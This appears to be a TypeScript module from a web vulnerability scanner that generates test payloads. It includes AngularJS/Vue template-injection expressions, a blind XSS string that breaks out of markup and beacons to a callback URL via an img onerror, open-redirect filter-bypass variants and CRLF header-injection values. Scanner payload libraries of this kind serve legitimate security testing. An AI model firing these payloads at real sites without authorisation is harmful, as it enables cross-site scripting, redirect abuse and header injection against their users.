/** Values for what is no script that runs in the page: templates, markup alone, scripts that run elsewhere, heads of answers. */

/** Expressions of AngularJS and Vue that reach the function constructor; quotes in them may come back as entities. */
export const TEMPLATES: readonly ((call: string) => string)[] = [
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `{{$emit.constructor('${call}')()}}`,
  (call) => `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//');}}`,
]

/** Leaves most places of markup; calls `url` with a product of its own working out. */
export const blindPayload = (url: string, a: number, b: number): string =>
  `'"></title></textarea></script><img src=x onerror="(new Image).src='${url}qv'+${a}*${b}">`

/** Elements that do nothing. */
export const markupOf = (value: string, word: string): string => `${value}<b id=${word}>${word}</b>`

/**
 * Ways to name another host, the usual first; `host` is one that exists nowhere (RFC 2606), `own` the site's, `value` what stood there.
 * Filters look for schemes, for two slashes, for a name that they know or for the whole address, at the beginning, within or at
 * the end, or take a scheme out once. Null where the value gives no such way.
 */
export const REDIRECTS: readonly ((host: string, own: string, value: string) => string | null)[] = [
  (host) => `https://${host}/`,
  (host) => `//${host}/`,
  (host) => `${host}/`,
  (host) => `/\\${host}/`,
  (host) => `https:${host}/`,
  (host) => `HtTp://${host}/`,
  (host, own) => `https://${own}.${host}/`,
  (host, own) => `https://${own}@${host}/`,
  (host, own) => `https://${host}/${own}`,
  (host, _own, value) => (value.length > 2 ? `https://${host}/?${value}` : null),
  (host, own, value) => withHostOf(value, own, (known) => `${known}.${host}/`),
  (host, own, value) => withHostOf(value, own, (known) => `${known}@${host}/`),
  // To what checks the host a backslash ends it; to what then encodes it, and so to the browser, it is part of a name before the @.
  (host, own, value) => `${URL.parse(value)?.origin.replace(/^null$/, '') || `https://${own}`}\\@${host}/`,
  // The name of a host alone, in front of which the program puts a scheme: a filter may look for the name it knows.
  (host, _own, value) => (isHostName(value) ? `${host}/${value}` : null),
  (host, _own, value) => (isHostName(value) ? `${value}.${host}` : null),
  (host, _own, value) => (isHostName(value) ? `${value}@${host}` : null),
  (host) => `hthttp://tp://${host}/`,
  (host) => `hhttps://ttps://${host}/`,
  (host) => `/\t/${host}/`,
  (host) => `%2f%2f${host}/`,
  (host) => `.${host}/`,
  (host) => `@${host}/`,
  // The name of a view, which one may choose in Spring MVC and Struts (UrlBasedViewResolver, REDIRECT_URL_PREFIX).
  (host) => `redirect:https://${host}/`,
]

const isHostName = (value: string): boolean => /^[a-z0-9-]+(?:\.[a-z0-9-]+)+$/i.test(value)

/** A filter may know the host that the value leads to, and the scheme before it; that of the site itself is tried under https above. */
const withHostOf = (value: string, own: string, way: (known: string) => string): string | null => {
  const { protocol, hostname } = URL.parse(value) ?? { protocol: '', hostname: '' }
  return hostname === '' || (hostname === own && protocol === 'https:') ? null : way(`${protocol}//${hostname}`)
}

export const HEADERS: readonly ((value: string, name: string) => string)[] = [
  (value, name) => `${value}\r\n${name}: 1`,
  (value, name) => `${value}\n${name}: 1`,
]
